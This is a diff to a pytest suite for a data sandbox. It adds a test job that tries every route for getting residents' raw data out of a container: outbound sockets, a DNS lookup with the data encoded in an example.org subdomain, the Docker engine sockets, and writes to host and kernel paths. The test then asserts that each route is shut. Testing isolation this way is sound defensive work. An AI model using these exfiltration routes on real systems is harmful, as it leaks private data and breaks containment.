@@ -185,6 +185,7 @@ def test_the_canaries_would_be_found(played: Played) -> None:
     assert canaries.within(b'{"a":"' + encoded + b'"}') == {encoded.decode()}
 
 
+@pytest.mark.requirement("R-086")
 def test_no_raw_value_is_in_anything_outside(played: Played) -> None:
     canaries = Canaries(played.folder / "residents.csv")
     outside = {
@@ -252,6 +253,56 @@ def test_data_that_cannot_be_described_is_refused_and_nothing_runs(tmp_path: Pat
     assert "FILE_UNREADABLE" in done.output
 
 
+ROUTES = """\
+import csv
+import pathlib
+import socket
+
+import sandbox_job
+
+raw = str(sandbox_job.table("residents").to_pylist()).encode()
+
+
+def send(family, address):
+    with socket.socket(family) as line:
+        line.settimeout(3)
+        line.connect(address)
+        line.sendall(raw)
+
+
+def printed():
+    for _ in range(200):
+        print(raw.decode(), flush=True)
+    raise OSError("printed")  # what became of it, the test looks at
+
+
+routes = {
+    "internet": lambda: send(socket.AF_INET, ("1.1.1.1", 443)),
+    "host": lambda: send(socket.AF_INET, ("127.0.0.1", SERVER)),
+    "gateway": lambda: send(socket.AF_INET, ("172.17.0.1", 80)),
+    "ipv6": lambda: send(socket.AF_INET6, ("2606:4700:4700::1111", 443)),
+    "name": lambda: socket.getaddrinfo(raw[:20].hex() + ".example.org", 80),
+    "engine": lambda: send(socket.AF_UNIX, "/run/sandbox-engine/docker.sock"),
+    "docker": lambda: send(socket.AF_UNIX, "/var/run/docker.sock"),
+    "input": lambda: pathlib.Path("/in/data/residents.parquet").write_bytes(raw),
+    "inputs": lambda: pathlib.Path("/in/data/left").write_bytes(raw),
+    "code": lambda: pathlib.Path("/in/code/left").write_bytes(raw),
+    "root": lambda: pathlib.Path("/srv/left").write_bytes(raw),
+    "kernel": lambda: pathlib.Path("/sys/kernel/left").write_bytes(raw),
+    "stdout": printed,
+}
+with open(sandbox_job.output("routes.csv"), "w", newline="", encoding="utf-8") as file:
+    writer = csv.writer(file)
+    writer.writerow(["route", "result"])
+    for name, attempt in routes.items():
+        try:
+            attempt()
+            writer.writerow([name, "OPEN"])
+        except Exception as error:
+            writer.writerow([name, type(error).__name__])
+"""
+
+
 @pytest.fixture(scope="module")
 def live(live_space: Callable[..., Live]) -> Live:
     """A running space in which a developer has tried honest, broken and hostile jobs."""
@@ -279,11 +330,35 @@ def live(live_space: Callable[..., Live]) -> Live:
         if developer.wait("job", job, {"failed", "quarantined"})["state"] == "quarantined":
             request = opened.propose(job)
             opened.wait("egress-request", request, "auto_rejected")
+    text = ROUTES.replace("SERVER", opened.space.url.rsplit(":", 1)[1])
+    outputs = [{"path": "routes.csv", "kind": "table"}]
+    spec = {**base, "entry": "routes.py", "code": {"routes.py": text}, "outputs": outputs}
+    job = developer.create("job", spec)["id"]
+    assert developer.wait("job", job, {"failed", "quarantined"})["state"] == "quarantined"
     honest = opened.propose(opened.wait("job", opened.job(), "quarantined").id)
     opened.wait("egress-request", honest, "human_review")
     return opened
 
 
+@pytest.mark.requirement("R-086")
+def test_every_route_out_of_a_jobs_container_is_shut(live: Live) -> None:
+    """The other half of R-086, that no raw value is found outside, is the canary tests' of this module."""
+    named = {
+        output["path"]: output["sha256"]
+        for job in live.find("job")
+        for output in job.status.get("outputs", [])
+        if job.state in ("quarantined", "proposed")
+    }
+    staging = live.places.blobs("ag-demo", live.case.scenario, "staging")
+    told = staging.path(named["routes.csv"]).read_text(encoding="utf-8").splitlines()[1:]
+    results = dict(line.split(",") for line in told)
+    assert len(results) == 13
+    assert {route for route, result in results.items() if result == "OPEN"} == set()
+    written = [path for path in live.space.folder.rglob("*") if path.name == "left"]
+    assert written == []
+
+
+@pytest.mark.requirement("R-086")
 def test_no_api_answer_to_a_developer_holds_a_raw_value(live: Live) -> None:
     canaries = Canaries(live.case.data.file)
     developer = live.story.world["li-developer"]
@@ -316,7 +391,8 @@ def test_what_a_developer_learns_of_a_failed_job_is_closed_words(live: Live) -> 
 def test_a_checker_killed_at_work_is_a_rejection_and_gives_no_token(live: Live) -> None:
     request = live.propose(live.wait("job", live.job(), "quarantined").id)
     task = f"{request}-check"
-    until(lambda: task in live.executor.running(), 60)
+    started = live.places.tasks / task / "started.json"  # told twice; with the kernel's word it is at work
+    until(lambda: started.exists() and '"kernel"' in started.read_text(encoding="utf-8"), 60)
     with calls(live.executor.engine) as api:
         api.kill(f"sandbox-{live.executor.space}-{task}", "SIGKILL")
     rejected = live.wait("egress-request", request, "auto_rejected")
@@ -327,6 +403,7 @@ def test_a_checker_killed_at_work_is_a_rejection_and_gives_no_token(live: Live) 
         developer.call("GET", f"/v1/egress-request/{request}/token")
 
 
+@pytest.mark.requirement("R-086")
 def test_the_processes_logs_hold_no_raw_value(live: Live) -> None:
     canaries = Canaries(live.case.data.file)
     for name in ("serve.log", "worker.log"):
